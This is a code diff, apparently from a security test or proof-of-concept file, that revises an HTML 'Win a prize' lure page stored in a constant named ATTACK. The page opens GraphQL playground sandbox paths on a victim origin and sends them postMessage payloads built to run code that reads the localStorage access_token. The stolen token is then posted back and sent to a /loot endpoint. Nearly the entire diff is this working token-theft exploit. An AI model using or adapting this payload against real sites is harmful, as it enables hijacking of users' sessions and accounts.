@@ -5,10 +5,10 @@
 export const ATTACK = `<!doctype html><title>Prizes</title><button>Win a prize</button><pre></pre><p></p>
 <script>
 const home = new URLSearchParams(location.search).get('home')
-const code = "globalThis.taken = true; new Image().src = '" + location.origin + "/loot?' + encodeURIComponent(localStorage.getItem('access_token'))"
+const code = "globalThis.taken = true; (globalThis.opener || globalThis.parent).postMessage({ loot: localStorage.getItem('access_token') }, '*')"
 const PATHS = ['/graphql/playground/iframe-sandbox/index.html?sc=' + location.origin, '/graphql/playground/iframe-sandbox/index.html?sandbox_type=plugin&sc=' + location.origin, '/graphql', '/', '/api/v1/docs']
 const MESSAGES = [
-  code, { code }, { type: 'execute', payload: [code, { context: { headers: [], variables: '{}' } }] }, { type: 'init', payload: [code, {}] }, { type: 'evaluate', script: code, code }, { vscodeScheduleAsyncWork: 1 },
+  code, { code }, { type: 'init_execute', payload: [code, { environment: {}, headers: [], variables: '{}' }] }, { type: 'evaluate', script: code, code }, { vscodeScheduleAsyncWork: 1 },
   { type: 'plugin-sandbox::initialize', payload: { params: { sc: location.origin, id: '1' }, styleUrls: [], scriptUrls: ['data:text/javascript,' + encodeURIComponent(code)] } },
 ]
 const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds))
@@ -34,7 +34,10 @@ document.querySelector('button').onclick = async () => {
     const opened = window.open(home + path)
     targets.push(() => opened)
   }
-  addEventListener('message', ({ source }) => post(source))
+  addEventListener('message', ({ source, data }) => {
+    if (data.loot !== undefined) fetch('/loot?' + encodeURIComponent(data.loot))
+    else if (data.told === undefined) post(source)
+  })
   for (let round = 0; round < 8; round++) {
     await wait(500)
     targets.forEach((target) => post(target()))
